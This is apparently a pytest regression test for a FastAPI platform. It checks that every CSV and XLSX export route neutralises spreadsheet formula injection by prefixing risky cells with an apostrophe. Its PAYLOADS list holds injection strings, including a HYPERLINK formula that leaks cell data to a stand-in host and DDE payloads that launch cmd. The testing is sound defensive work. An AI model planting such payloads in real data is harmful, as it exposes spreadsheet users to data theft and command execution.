"""Every file the platform hands out (CSV or XLSX) is written by core/tabular.py, which never
lets text become a spreadsheet formula: a cell starting with = + - @ (or tab, CR) gets an
apostrophe. The export routes come from the route table — every route answering with a CSV
or XLSX file — so a new export is checked here the day it is added.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, get_args

from fastapi import FastAPI
from fastapi.dependencies.utils import get_flat_params
from fastapi.routing import APIRoute, iter_route_contexts
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from backend.core.permissions import Role
from backend.core.tabular import MEDIA_TYPES
from backend.experts.models import (
    AssignmentStatus,
    ExpertKind,
    PocRequest,
    PocStatus,
    Recommendation,
    ReviewAssignment,
)
from backend.integrity import review as flag_review
from backend.integrity.models import IntegrityFlag
from backend.listings.models import Field
from backend.matches.models import MatchFeedback
from backend.rewards import clawbacks, payouts
from tests.builders import accounts as b
from tests.builders import chains as chainb
from tests.builders import experts as ex
from tests.builders import listings as lb
from tests.builders import rewards as r

XLSX = MEDIA_TYPES["xlsx"]
# What someone may type as a title, a name, a reason or a comment to run in a spreadsheet.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C notepad'!A1", "-2+3+cmd|'/C calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def export_routes(app: FastAPI) -> dict[str, tuple[list[str], list[str]]]:
    """path → (its path parameters, the formats it writes), for every GET route documented as
    answering with a CSV or XLSX file."""
    found = {}
    for context in iter_route_contexts(app.routes):
        route = context.route
        if not isinstance(route, APIRoute) or "GET" not in (context.methods or ()):
            continue
        media = set(route.responses.get(200, {}).get("content", {}))
        if not any(m.startswith("text/csv") or m == XLSX for m in media):
            continue
        formats = ["xlsx"] if media == {XLSX} else ["csv"]
        for param in get_flat_params(route.dependant):
            if param.alias == "format":
                formats = list(get_args(param.field_info.annotation))
        found[context.path] = ([p.name for p in route.dependant.path_params], formats)
    return found


def test_the_exports_found_are_the_ones_expected(app: FastAPI) -> None:
    assert export_routes(app) == {
        "/api/v1/demands/export": ([], ["csv"]),
        "/api/v1/achievements/export": ([], ["csv"]),
        "/api/v1/achievements/import/template": ([], ["xlsx", "csv"]),
        "/api/v1/matches/feedback/export": ([], ["csv"]),
        "/api/v1/exports/{dataset}": (["dataset"], ["csv", "xlsx"]),
        "/api/v1/exports/payouts/{batch_id}": (["batch_id"], ["csv", "xlsx"]),
        "/api/v1/registry/template": ([], ["csv"]),
        "/api/v1/poc-requests/{request_id}/report.xlsx": (["request_id"], ["xlsx"]),
        "/api/v1/chains/{chain_id}/export": (["chain_id"], ["xlsx"]),
        "/api/v1/chains/{chain_id}/report": (["chain_id"], ["xlsx"]),
    }


def _formula_world(db: Session) -> dict[str, list[str]]:
    """Formula-like text in every place an export takes text from; the path parameters."""
    first, second = (b.make_user(db, Role.ADMIN, username=name) for name in ("@admin", "-admin"))
    w = r.paid_world(db)
    w.demand.title, w.achievement.title = PAYLOADS[0], PAYLOADS[2]
    w.lead.display_name = PAYLOADS[1]
    db.flush()
    clawed = r.claim(db, w)
    r.paid(db, clawed.id, first, second)
    clawbacks.claw_back(db, r.actor(first), clawed.id, PAYLOADS[3])
    batched = r.claim(db, r.world_for(db, w.lead))
    r.approved(db, batched.id, first)
    batch = payouts.create_batch(db, r.actor(first), [batched.id], PAYLOADS[0])
    flag = IntegrityFlag(claim_id=batched.id, rule="amount_outlier", severity="warning",
                         blocking=False, message_zh=PAYLOADS[0], message_en=PAYLOADS[1],
                         evidence={}, fingerprint="f" * 64)
    db.add(flag)
    db.add(MatchFeedback(user_id=w.lead.id, demand_id=w.demand.id,
                         achievement_id=w.achievement.id, source_kind="demand", useful=True,
                         comment=PAYLOADS[3]))
    db.add(Field(code="formula_test", name_zh=PAYLOADS[0], name_en=PAYLOADS[1], sort=0,
                 active=True))
    db.flush()
    flag_review.dismiss(db, r.actor(second), flag.id, PAYLOADS[2])
    chain = chainb.make_chain(db, first, code="formula", name_zh=PAYLOADS[0],
                              description=PAYLOADS[1])
    return {"dataset": ["claims", "payouts", "clawbacks", "flags", "audit"],
            "batch_id": [str(batch.id)], "request_id": [str(_decided_review(db))],
            "chain_id": [str(chain.id)]}


def _decided_review(db: Session) -> int:
    """A decided proof-of-concept review whose summary, comments and note look like formulas."""
    institute = b.make_institute_user(db)
    request = PocRequest(achievement_id=lb.make_achievement(db, institute).id,
                         organisation_id=institute.organisation_id, requested_by_id=institute.id,
                         field_code="equipment.robotics", mix=["scientist"],
                         status=PocStatus.PASSED, reviewed_trl=5, summary=PAYLOADS[0])
    db.add(request)
    db.flush()
    expert = ex.make_expert(db, ExpertKind.SCIENTIST)
    db.add(ReviewAssignment(request_id=request.id, expert_id=expert.id,
                            kind=ExpertKind.SCIENTIST, status=AssignmentStatus.SUBMITTED,
                            scores=ex.scores(4), comments={"maturity": PAYLOADS[1]}, trl=5,
                            recommendation=Recommendation.PASS, confidential_note=PAYLOADS[2]))
    db.flush()
    return request.id


def _cells(content: bytes, fmt: str) -> list[Any]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
                for cell in row]
    book = load_workbook(io.BytesIO(content))  # formulas as written, not computed
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row]


def test_no_export_writes_a_formula(app: FastAPI, client: TestClient, db: Session) -> None:
    values = _formula_world(db)
    headers = b.login_as(db, b.make_admin(db)).headers
    checked = 0
    for path, (params, formats) in export_routes(app).items():
        paths = [path]
        for name in params:
            paths = [p.replace(f"{{{name}}}", v) for p in paths for v in values[name]]
        for url in paths:
            for fmt in formats:
                query = {"format": fmt, **({"year": 2026, "quarter": 4}
                                           if url.endswith("/report") else {})}
                response = client.get(url, params=query, headers=headers)
                assert response.status_code == 200, (url, fmt, response.text)
                cells = _cells(response.content, fmt)
                formulas = [c for c in cells if isinstance(c, str) and
                            c.startswith(FORMULA_START) and not NUMBER.match(c)]
                assert formulas == [], (url, fmt)
                defused = {c[1:] for c in cells if isinstance(c, str) and c.startswith("'")}
                if url.endswith("/audit"):  # the actors' names
                    assert {"@admin", "-admin"} <= defused, (url, fmt)
                elif url not in ("/api/v1/achievements/import/template",  # headings only
                                 "/api/v1/registry/template") or fmt != "csv":
                    assert defused & set(PAYLOADS), (url, fmt)
                checked += 1
    assert checked == 21
